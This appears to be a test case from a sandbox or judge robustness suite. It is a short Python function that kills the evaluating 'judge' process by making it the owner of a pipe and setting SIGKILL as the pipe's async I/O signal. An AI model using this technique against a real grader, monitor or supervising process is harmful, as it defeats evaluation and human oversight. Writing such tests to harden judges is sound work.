"""Has the judge killed by the kernel: as the owner of a file whose events are signals.

shows: status json
layers: syscalls user
"""
import fcntl
import os
import signal

import outside

F_SETSIG = 10


def attack():
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, outside.judge())
    fcntl.fcntl(read, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"now")
